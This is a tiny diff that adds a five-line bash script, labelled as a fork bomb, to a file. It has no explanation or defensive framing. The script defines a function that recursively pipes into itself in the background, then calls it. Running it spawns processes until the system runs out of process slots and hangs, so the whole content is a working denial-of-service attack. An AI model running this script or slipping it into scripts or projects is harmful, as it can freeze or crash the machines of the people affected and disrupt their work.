@@ -1,0 +1,5 @@
+#!/bin/bash
+# The fork bomb.
+bomb() { bomb | bomb & }
+bomb
+sleep 60
